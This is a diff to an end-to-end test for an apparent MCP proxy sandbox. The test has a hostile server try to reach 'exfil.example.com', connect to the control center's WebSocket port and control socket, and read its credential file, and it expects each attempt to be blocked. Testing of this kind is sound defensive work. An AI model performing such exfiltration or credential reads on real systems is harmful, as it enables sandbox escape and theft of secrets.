@@ -22,15 +22,21 @@ test.describe('the Servers page shows each server sandbox', () => {
     const policy = writePolicy(
       dir,
       'hostile-policy',
-      `  allowed_tools: [egress]\n  x-silas-sandbox:\n    filesystem:\n      read: [${JSON.stringify(dir)}]\n    network:\n      mode: hosts\n      hosts: [api.allowed.test]\n`,
+      `  allowed_tools: [egress, connect_tcp, connect_unix, read_file]\n  x-silas-sandbox:\n    filesystem:\n      read: [${JSON.stringify(dir)}]\n    network:\n      mode: hosts\n      hosts: [api.allowed.test]\n`,
     );
-    const hostile = await connectThroughProxy(silas, { name: 'hostile', policy, server: MCP_SERVERS.hostile, sandbox: true });
+    // The running control center's own surfaces: its WebSocket port, control socket and credential file.
+    const targets = { ws: new URL(silas.cockpitUrl).port, controlSocket: join(silas.home, 'control.sock'), control: join(silas.home, 'control.json') };
+    const hostile = await connectThroughProxy(silas, { name: 'hostile', policy, server: MCP_SERVERS.hostile, sandbox: true, serverArgs: [Buffer.from(JSON.stringify(targets)).toString('base64')] });
     proxies.push(hostile);
-    const refused = JSON.parse(textOf(await hostile.client.callTool({ name: 'egress', arguments: { host: 'exfil.example.com', port: 443 } }))) as { ok: boolean; detail: string };
-    expect(refused).toMatchObject({ ok: false, detail: expect.stringMatching(/^HTTP\/1\.1 403/) });
+    const attack = async (name: string, args: Record<string, unknown>) => JSON.parse(textOf(await hostile.client.callTool({ name, arguments: args }))) as { ok: boolean; detail: string };
+    expect(await attack('egress', { host: 'exfil.example.com', port: 443 })).toMatchObject({ ok: false, detail: expect.stringMatching(/^HTTP\/1\.1 403/) });
+    expect(await attack('connect_tcp', { target: 'ws' })).toMatchObject({ ok: false });
+    expect(await attack('connect_unix', { target: 'controlSocket' })).toMatchObject({ ok: false });
+    expect(await attack('read_file', { target: 'control' })).toMatchObject({ ok: false });
     const legacy = await connectThroughProxy(silas, { name: 'legacy', policy: writePolicy(dir, 'legacy-policy', '  allowed_tools: [echo]\n'), server: MCP_SERVERS.fileTools });
     proxies.push(legacy);
 
+    // The runtime it attacked still serves the cockpit.
     await openCockpit(page, silas);
     await mainNav(page).getByRole('link', { name: /^Servers/ }).click();
     await expect(page.getByRole('heading', { level: 1, name: 'Servers' })).toBeVisible();
